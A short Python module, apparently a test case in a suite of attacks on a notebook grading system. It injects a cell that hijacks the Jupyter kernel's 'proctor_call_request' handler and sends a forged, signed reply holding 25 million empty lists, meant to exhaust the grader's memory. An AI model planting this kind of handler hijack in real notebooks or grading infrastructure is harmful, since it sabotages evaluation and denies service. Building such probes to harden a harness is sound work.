"""An answer of millions of empty lists: small on its way, large in memory.

graded: 22
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import save, start_with
from nbformat import NotebookNode

SOURCE = """
kernel = get_ipython().kernel
answer = kernel.shell_handlers["proctor_call_request"]


async def wide(stream, ident, parent):
    if parent["content"].get("name") != "pool_forward":
        return await answer(stream, ident, parent)
    session = kernel.session
    message = session.msg("proctor_call_reply", {}, parent=parent)
    content = b'{"nonce": "", "status": "ok", "value": [' + b"[]," * 25_000_000 + b"[]]}"
    parts = [session.pack(message[part]) for part in ("header", "parent_header", "metadata")]
    parts.append(content)
    socket = getattr(stream, "socket", stream)
    socket.send_multipart([*ident, b"<IDS|MSG>", session.sign(parts), *parts])


kernel.shell_handlers["proctor_call_request"] = wide
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    start_with(right, "pool_forward", SOURCE)
    save(folder, right)
